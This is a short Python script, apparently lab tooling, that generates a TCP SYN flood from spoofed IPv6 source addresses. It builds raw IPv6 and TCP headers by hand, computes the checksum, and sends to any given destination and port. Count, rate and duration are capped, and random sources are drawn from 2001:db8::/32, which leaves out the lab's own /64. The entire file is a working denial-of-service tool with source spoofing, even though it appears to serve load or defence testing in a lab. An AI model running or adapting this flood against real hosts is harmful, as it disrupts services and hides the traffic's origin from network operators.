"""TCP SYNs from spoofed IPv6 sources, for the lab's IPv6-only host: a raw
IPv6 socket (IPPROTO_RAW: we write the IPv6 header ourselves, so the source
can be any address) sends COUNT SYNs to [DST]:PORT at RATE per second from
random sources 2001:db8:X::Y (never the lab's own 2001:db8:f::/64).
Bounded by count and by --max-seconds.  Prints one JSON line.

    python synflood.py DST PORT [--count 200] [--rate 100] [--seed S]
"""
import argparse
import ipaddress
import json
import random
import socket
import struct
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def syn(src, dst, sport, dport, seq):
    """IPv6 + TCP SYN (MSS 1440, window 64240) from src to dst (16 bytes each)."""
    opts = struct.pack("!BBH", 2, 4, 1440)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, (20 + len(opts)) << 2, 0x02, 64240, 0, 0) + opts
    pseudo = src + dst + struct.pack("!I3xB", len(tcp), 6)
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip6 = struct.pack("!IHBB", 6 << 28, len(tcp), 6, 64) + src + dst
    return ip6 + tcp


def spoofed(rnd):
    while True:
        x = rnd.randrange(1, 0x10000)
        if x != 0xF:
            break
    return ipaddress.IPv6Address("2001:db8:%x::%x" % (x, rnd.randrange(1, 0x10000))).packed


def main(argv=None):
    ap = argparse.ArgumentParser()
    ap.add_argument("dst")
    ap.add_argument("port", type=int)
    ap.add_argument("--count", type=int, default=200)
    ap.add_argument("--rate", type=float, default=100.0, help="SYNs per second")
    ap.add_argument("--seed", type=int)
    ap.add_argument("--max-seconds", type=float, default=30)
    a = ap.parse_args(argv)
    count = min(a.count, 10000)
    rate = min(max(a.rate, 1.0), 1000.0)
    rnd = random.Random(a.seed)
    dst = ipaddress.IPv6Address(a.dst).packed
    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = errors = 0
    sources = set()
    t0 = time.monotonic()
    for i in range(count):
        if time.monotonic() - t0 > a.max_seconds:
            break
        src = spoofed(rnd)
        sources.add(src)
        try:
            s.sendto(syn(src, dst, rnd.randrange(1024, 65536), a.port, rnd.getrandbits(32)), (a.dst, 0))
            sent += 1
        except OSError:
            errors += 1
        delay = t0 + (i + 1) / rate - time.monotonic()
        if delay > 0:
            time.sleep(delay)
    print(json.dumps({"sent": sent, "errors": errors, "sources": len(sources),
                      "seconds": round(time.monotonic() - t0, 2)}))


if __name__ == "__main__":
    main()
